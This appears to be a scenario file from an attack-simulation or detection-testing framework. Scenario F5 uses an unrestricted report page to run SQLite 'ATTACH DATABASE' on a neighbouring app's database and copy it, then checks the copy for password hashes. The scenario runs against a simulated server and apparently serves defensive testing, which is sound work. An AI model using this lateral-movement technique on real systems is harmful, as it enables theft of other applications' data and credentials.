"""F5: an attacker attaches another app's database from a neighbouring file and copies it."""

from backwatch.attack.clients.sqlite3 import SQLite, other_database
from backwatch.attack.scenarios import Run
from backwatch.attack.techniques.sql import ReportPage
from backwatch.attack.techniques.sqlite import LOOT, DatabaseFile


class AttachesDatabase(ReportPage):
    """A forgotten page for reports executes any statement."""

    code = "F5"
    attack = "attaches the database of another app, and takes a copy of it"
    reference = "https://attack.mitre.org/techniques/T1210/; https://www.sqlite.org/lang_attach.html"
    rule = "lateral-movement"
    server = DatabaseFile
    runs = (Run(SQLite),)

    def meet(self) -> object:
        """Make the attacker's report; return whether a copy of the other database holds password hashes."""
        self.client.execute(f"ATTACH DATABASE '{other_database(self.config.ca_file, self.config.port)}' AS wages")
        return LOOT.encode() in self.client.connection.serialize(name="wages")
